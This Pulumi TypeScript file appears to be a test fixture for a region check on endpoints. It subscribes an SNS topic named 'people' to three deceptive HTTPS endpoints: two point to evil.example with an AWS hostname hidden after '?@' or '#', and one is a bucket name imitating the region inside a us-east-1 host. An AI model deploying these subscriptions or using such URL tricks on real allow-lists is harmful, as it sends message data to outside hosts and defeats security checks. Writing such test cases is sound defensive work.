/** Hosts that only look like those of the region: before a question mark, after a hash, as a bucket's name. */
import * as aws from "@pulumi/aws";

const people = new aws.sns.Topic("people", { name: "people" });
const hosts = {
  question: "https://evil.example?@x.execute-api.eu-central-1.amazonaws.com",
  hash: "https://evil.example#.eu-central-1.amazonaws.com",
  website: "https://eu-central-1.acme-sink.s3-website-us-east-1.amazonaws.com/",
};
for (const [name, endpoint] of Object.entries(hosts)) {
  new aws.sns.TopicSubscription(name, { topic: people.arn, protocol: "https", endpoint });
}
